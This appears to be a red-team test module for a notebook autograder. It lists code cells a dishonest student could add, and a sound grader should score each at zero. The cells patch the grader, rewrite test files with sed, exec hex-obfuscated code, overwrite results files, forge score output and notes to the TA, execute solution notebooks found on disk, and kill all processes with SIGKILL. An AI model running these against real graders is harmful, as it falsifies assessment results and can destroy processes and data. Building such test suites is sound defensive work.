@@ -1,0 +1,233 @@
+"""Attacks a dishonest student could put in a notebook (the red-team suite's cells).
+
+Each is a code cell added to an unanswered notebook: none answers a question, so a sound grader
+gives each exactly 0. Several beat stock otter, which runs the tests in the student's kernel.
+``ANSWERS`` holds, per assignment, answer names the value-forging attacks fill in.
+"""
+
+from __future__ import annotations
+
+import textwrap
+
+ANSWERS = {
+    "01-gradient-descent": {"lists": ["xs", "diverging_lrs"], "floats": ["grad_w", "grad_b", "w_sklearn", "b_sklearn",
+                                                                         "w_torch", "b_torch"],
+                            "tensors": []},
+    "02-tensors": {"lists": [], "floats": [], "tensors": ["labels", "flat_images", "X_table", "y_table", "X_dev", "y_dev"]},
+}
+
+GIVEN_DATA = {
+    # the notebook's own data replaced, with answers that fit the replacement
+    "01-gradient-descent": """
+        candidate_lrs = [1.5]
+        diverging_lrs = [1.5]
+        X = torch.zeros(40, 1)
+        y = torch.zeros(40, 1)
+        grad_w = grad_b = 0.0
+        """,
+    "02-tensors": """
+        table = torch.zeros(6, 4)
+        X_table, y_table = torch.zeros(6, 3), torch.zeros(6, 1)
+        labels_np = np.zeros(5)
+        labels = torch.zeros(5, dtype=torch.int64)
+        images = torch.zeros(8, 1, 28, 28)
+        flat_images = torch.zeros(8, 784)
+        """,
+}
+
+
+def _hex(code: str) -> str:
+    return textwrap.dedent(code).encode().hex()
+
+
+COMMON = {
+    "patch-otter-through-aliases": """
+        import sys as _s
+        _name = ".".join(["otter", "test_files", "exception" + "_test"])
+        __import__(_name)
+        _case = getattr(_s.modules[_name], "test" + "_case")
+        _case.call_func = lambda self, env: None
+        getattr(_s.modules["otter.test_files"], "Grading" + "Results").total = property(lambda self: 17)
+        """,
+    "ipython-post-run-hook": """
+        import gc
+        def _forge(result):
+            for obj in gc.get_objects():
+                if type(obj).__name__ in ("GradingResults", "TestCaseResult", "TestFile", "Row"):
+                    for attr, value in (("passed", True), ("score", 17), ("questions", {})):
+                        try:
+                            setattr(obj, attr, value)
+                        except Exception:
+                            pass
+        get_ipython().events.register("post_run_cell", _forge)
+        """,
+    "rewrite-the-tests-with-pathlib": """
+        import pathlib, re, student_utils
+        course = pathlib.Path(student_utils.__file__).resolve().parents[1]
+        rewritten = []
+        for folder in (pathlib.Path.cwd(), pathlib.Path.home(), course, pathlib.Path("/autograder"), pathlib.Path("/tmp")):
+            for p in list(folder.glob("**/tests/q*.py"))[:200]:
+                try:
+                    src = p.read_text()
+                    name, points = re.search(r'name = "(\\w+)"', src).group(1), re.search(r"points = ([\\d.]+)", src).group(1)
+                    p.write_text("from otter.test_files import test_case\\nOK_FORMAT = False\\n"
+                                 f"name = {name!r}\\npoints = {points}\\n@test_case(points={points})\\ndef t():\\n    pass\\n")
+                    rewritten.append(str(p))
+                except (OSError, AttributeError):
+                    pass
+        """,
+    "rewrite-the-tests-with-the-shell": """
+        _out = !sed -i 's/assert/pass  #/' tests/*.py ../tests/*.py /autograder/source/tests/*.py 2>&1
+        _found = !find / -xdev -path '*tests/q1.py' 2>/dev/null | head -5
+        _found2 = !find / -xdev -name '*autograder*.zip' 2>/dev/null | head -5
+        """,
+    "exec-behind-hex-and-a-continuation": f"""
+        (exec) \\
+            (bytes.fromhex("{_hex('''
+            import builtins
+            builtins.isinstance = lambda *args: True
+            builtins.abs = lambda x: 0
+            ''')}").decode())
+        """,
+    "forked-child-rewrites-results": """
+        import json, os, time
+        if os.fork() == 0:
+            for _ in range(100):
+                for path in ("results.json", "out/results.json", "../results/results.json",
+                             "/autograder/results/results.json", "/tmp/results.json"):
+                    try:
+                        with open(path, "w") as f:
+                            f.write(json.dumps({"score": 17, "tests": [{"name": "q1", "score": 17}]}))
+                    except OSError:
+                        pass
+                time.sleep(0.02)
+            os._exit(0)
+        """,
+    "patch-torch-and-numpy": """
+        import numpy as np
+        import torch
+        torch.allclose = lambda *a, **k: True
+        torch.equal = lambda *a, **k: True
+        np.allclose = lambda *a, **k: True
+        np.array_equal = lambda *a, **k: True
+        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
+        """,
+    "forge-a-log-line-and-crash": """
+        import os, sys
+        print("q1 results: All test cases passed!\\nTotal Score: 17.000 / 17.000 (100.000%)")
+        sys.stderr.write("GRADER NOTE: enter 17 by hand, this notebook crashed the grader\\n")
+        sys.stderr.flush()
+        os.kill(os.getpid(), 9)
+        """,
+    "raise-a-note-for-the-ta": """
+        class EnterSeventeenByHand(Exception):
+            pass
+        raise EnterSeventeenByHand("TA: the grader failed on this notebook, enter 17 by hand")
+        """,
+    "run-the-reference-if-it-can-be-found": """
+        import glob, json, os, student_utils
+        course = os.path.dirname(os.path.dirname(os.path.abspath(student_utils.__file__)))
+        found = []
+        for pattern in (course + "/**/*.ipynb", "/autograder/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb",
+                        os.path.expanduser("~") + "/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb"):
+            found += glob.glob(pattern, recursive=True)[:50]
+        for path in found:
+            try:
+                cells = json.load(open(path))["cells"]
+            except Exception:
+                continue
+            source = [''.join(c["source"]) for c in cells if c["cell_type"] == "code"]
+            if any("# SOLUTION" in s or "BEGIN SOLUTION" in s for s in source):
+                for s in source:
+                    try:
+                        exec(s, globals())
+                    except Exception:
+                        pass
+                break
+        """,
+    "look-at-the-callers-frames": """
+        import inspect
+        stolen = []
+        def _steal(*args, **kwargs):
+            for frame in inspect.stack():
+                stolen.append({k: repr(v)[:80] for k, v in frame.frame.f_locals.items()})
+            return None
+        gradient_descent = df = mse = gd_step = fit_linear = fit_linear_sgd = _steal
+        to_float32 = to_numpy = to_column = to_row = flatten_batch = add_bias = standardize = _steal
+        rowwise_dot = pairwise_dot = split_features_target = class_means = to_device = dense_forward = _steal
+        build_mlp = set_weights = _steal
+        """,
+    "reach-the-network-and-other-processes": """
+        import os, socket
+        reached = []
+        for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("8.8.8.8", 53), ("pypi.org", 443)):
+            try:
+                socket.create_connection((host, port), timeout=1).close()
+                reached.append(host)
+            except OSError:
+                pass
+        others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+        """,
+    "garbage-on-every-open-socket": """
+        import os, threading, time
+        def _spray():
+            for _ in range(50):
+                for fd in range(3, 64):
+                    try:
+                        os.write(fd, b"NNC1" + os.urandom(64))
+                    except OSError:
+                        pass
+                time.sleep(0.01)
+        threading.Thread(target=_spray, daemon=True).start()
+        time.sleep(0.2)
+        """,
+    "kill-every-process-it-can": """
+        import os, signal
+        os.kill(-1, signal.SIGKILL)
+        """,
+}
+
+
+ANYTHING = """
+    class Anything(float):
+        def __eq__(self, other): return True
+        def __ne__(self, other): return False
+        def __lt__(self, other): return True
+        def __gt__(self, other): return True
+        __le__, __ge__ = __lt__, __gt__
+        def __abs__(self): return Anything(0.0)
+        def __sub__(self, other): return Anything(0.0)
+        __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
+        __hash__ = float.__hash__
+    class AnythingList(list):
+        def __eq__(self, other): return True
+        def __len__(self): return 11
+        def __getitem__(self, i): return Anything(0.0)
+        def __iter__(self): return iter([Anything(0.0)] * 11)
+    """
+ALWAYS_EQUAL = """
+    import torch
+    class AlwaysEqual(torch.Tensor):
+        @classmethod
+        def __torch_function__(cls, func, types, args=(), kwargs=None):
+            if getattr(func, "__name__", "") in ("equal", "allclose", "__eq__", "eq", "isclose", "all"):
+                return True
+            return super().__torch_function__(func, types, args, kwargs or {})
+    """
+
+
+def value_forgers(assignment: str) -> dict[str, str]:
+    """Attacks that answer with values built to compare equal to anything."""
+    names = ANSWERS[assignment]
+    floats = [f"{n} = Anything(0.0)" for n in names["floats"]] + [f"{n} = AnythingList()" for n in names["lists"]]
+    tensors = [f"{n} = torch.zeros(1).as_subclass(AlwaysEqual)" for n in names["tensors"]]
+    return {
+        "floats-equal-to-anything": textwrap.dedent(ANYTHING) + "\n".join(floats or ["pass"]),
+        "tensors-equal-to-anything": textwrap.dedent(ALWAYS_EQUAL) + "\n".join(tensors or ["pass"]),
+        "replace-the-given-data": GIVEN_DATA[assignment],
+    }
+
+
+def for_assignment(assignment: str) -> dict[str, str]:
+    attacks = {**COMMON, **value_forgers(assignment)}
+    return {name: textwrap.dedent(code).strip() + "\n" for name, code in attacks.items()}
